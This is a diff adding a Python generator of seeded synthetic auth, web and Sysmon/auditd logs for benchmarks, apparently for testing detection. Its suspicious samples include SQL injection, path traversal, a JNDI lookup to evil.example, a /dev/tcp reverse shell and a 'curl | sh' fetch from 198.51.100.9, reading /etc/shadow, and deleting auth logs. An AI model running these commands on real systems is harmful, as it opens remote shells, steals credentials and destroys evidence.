@@ -1,0 +1,111 @@
+# ruff: noqa: E501  # lines of logs
+"""Made-up logs for benchmarks: the same bytes for the same seed, most lines ordinary, a chosen share suspicious."""
+
+from __future__ import annotations
+
+import json
+import random
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+HOSTS = ("web01", "web02", "db01", "mail", "build-7")
+USERS = ("alice", "bob", "carol", "deploy", "www-data", "postgres", "backup", "nobody")
+AGENTS = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Version/17.4 Safari/604.1",
+    "kube-probe/1.29",
+)
+PATHS = ("/", "/index.html", "/api/v1/users/{n}", "/static/app.{n}.js", "/img/p/{n}.webp", "/cart/add?sku={n}&qty=1",
+         "/search?q=red+shoes&page={n}", "/api/v1/search?term=caf%C3%A9%20{n}", "/health", "/blog/2026/03/post-{n}")  # fmt: skip
+ATTACKS = ("/index.php?id=1%27%20UNION%20SELECT%201,2,@@version--", "/../../../../etc/passwd", "/.git/config",
+           "/?x=${jndi:ldap://evil.example/a}", "/shell.php?cmd=whoami", "/search?q=<script>alert(1)</script>",
+           "/api?file=../../../etc/shadow", "/?id=1+and+sleep(5)--")  # fmt: skip
+COMMANDS = (
+    ("/usr/bin/ls", "ls --color=auto -la /srv/app"), ("/usr/bin/grep", "grep -r foo /srv/app/src"),
+    ("/usr/bin/python3.11", "/usr/bin/python3.11 /srv/app/manage.py worker {n}"), ("/usr/bin/ps", "ps aux"),
+    ("/usr/sbin/nginx", "nginx: worker process"), ("/usr/bin/sed", "sed -e s/a/b/ -i /srv/app/conf/{n}.ini"),
+    ("/usr/bin/date", "date +%s"), ("/usr/bin/node", "node /srv/app/server.js --port={n}"),
+    ("/usr/bin/tar", "tar czf /backup/{n}.tgz /srv/app"), ("/usr/bin/git", "git pull --rebase"),
+)  # fmt: skip
+BAD_COMMANDS = (
+    ("/usr/bin/bash", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), ("/usr/bin/curl", "curl -s http://198.51.100.9/x.sh | sh"),
+    ("/usr/bin/cat", "cat /etc/shadow"), ("/usr/bin/base64", "base64 -d /tmp/.x"), ("/usr/bin/crontab", "crontab -e /tmp/c"),
+    ("/usr/bin/chmod", "chmod u+s /tmp/.hidden/bash"), ("/usr/bin/rm", "rm -rf /var/log/auth.log"), ("/usr/sbin/iptables", "iptables -F"),
+)  # fmt: skip
+
+
+class Maker:
+    """Lines of one kind: `auth`, `web` or `json`."""
+
+    def __init__(self, kind: str, share: float, seed: int = 1) -> None:
+        self._draw = random.Random(f"{kind} {share} {seed}")
+        self._make = {"auth": self._auth, "web": self._web, "json": self._json}[kind]
+        self._share = share
+        self._at = datetime(2026, 3, 1, tzinfo=UTC)
+
+    def lines(self, size_bytes: int) -> bytes:
+        """About so many bytes."""
+        made: list[str] = []
+        size = 0
+        while size < size_bytes:
+            self._at += timedelta(milliseconds=self._draw.randrange(50))
+            line = self._make(suspicious=self._draw.random() < self._share)
+            made.append(line)
+            size += len(line) + 1
+        return ("\n".join(made) + "\n").encode()
+
+    def _address(self, inside: str = "10") -> str:
+        return inside + "".join(f".{self._draw.randrange(1, 255)}" for _ in range(3))
+
+    def _auth(self, *, suspicious: bool) -> str:
+        draw, number = self._draw, self._draw.randrange(1, 65_535)
+        head = f"{self._at:%b} {self._at.day:2} {self._at:%H:%M:%S} {draw.choice(HOSTS)} "
+        user = draw.choice(USERS)
+        if suspicious:
+            return head + draw.choice((
+                f"sshd[{number}]: Failed password for root from {self._address('203')} port {number} ssh2",
+                f"sshd[{number}]: Failed password for invalid user oracle from {self._address('203')} port {number} ssh2",
+                f"sudo:   {user} : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/{user} ; USER=root ; COMMAND=/bin/cat /etc/shadow",
+                f"sudo:   {user} : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/198.51.100.9/44 0>&1",
+            ))  # fmt: skip
+        return head + draw.choice((
+            f"sshd[{number}]: Accepted publickey for {user} from {self._address()} port {number} ssh2: ED25519 SHA256:{number:043x}",
+            f"sshd[{number}]: pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)",
+            f"CRON[{number}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
+            f"systemd-logind[612]: New session {number} of user {user}.",
+            f"kernel: [{number}.25] [UFW BLOCK] IN=eth0 SRC={self._address('198')} DST={self._address()} LEN=60 PROTO=TCP SPT={number} DPT=22",
+            f"sshd[{number}]: Received disconnect from {self._address()} port {number}:11: disconnected by user",
+        ))  # fmt: skip
+
+    def _web(self, *, suspicious: bool) -> str:
+        draw = self._draw
+        target = (
+            draw.choice(ATTACKS if suspicious else PATHS).format_map({"n": draw.randrange(99_999)})
+            if not suspicious
+            else draw.choice(ATTACKS)
+        )
+        return (
+            f'{self._address("203")} - - [{self._at:%d/%b/%Y:%H:%M:%S} +0000] "GET {target} HTTP/1.1" {draw.choice((200, 200, 200, 304, 404))}'
+            f' {draw.randrange(90_000)} "-" "{draw.choice(AGENTS)}"'
+        )
+
+    def _json(self, *, suspicious: bool) -> str:
+        draw, number = self._draw, self._draw.randrange(300, 4_000_000)
+        image, command = draw.choice(BAD_COMMANDS if suspicious else COMMANDS)
+        command = command.replace("{n}", str(number))
+        at = f"{self._at:%Y-%m-%dT%H:%M:%S}Z"
+        record: dict[str, Any] = {"timestamp": at, "host": draw.choice(HOSTS), "product": "linux"}
+        kind = draw.randrange(10)
+        if kind < 6:  # Sysmon for Linux
+            record |= {"category": "process_creation", "EventID": 1, "ProcessGuid": f"{{{number:08x}-0001}}", "ProcessId": number,
+                       "Image": image, "CommandLine": command, "CurrentDirectory": draw.choice(("/", "/srv/app")), "User": draw.choice(USERS),
+                       "LogonId": number % 9_999, "Hashes": "-", "ParentProcessId": number // 2, "ParentImage": "/usr/lib/systemd/systemd",
+                       "ParentCommandLine": draw.choice(("/sbin/init", "sh -c run-parts", "containerd-shim -namespace moby"))}  # fmt: skip
+        elif kind < 8:  # auditd
+            record |= {"service": "auditd", "type": "EXECVE", "msg": f"audit({number}.001:{number})"}
+            record |= {f"a{place}": word for place, word in enumerate(command.split(" ")[:8])}
+        else:
+            record |= {"service": "auditd", "type": "SYSCALL", "arch": "c000003e", "syscall": draw.choice(("execve", "openat", "close")),
+                       "success": "yes", "pid": number, "uid": number % 1_100, "comm": image.rpartition("/")[2], "exe": image, "key": "(null)"}  # fmt: skip
+        return json.dumps(record, separators=(",", ":"))
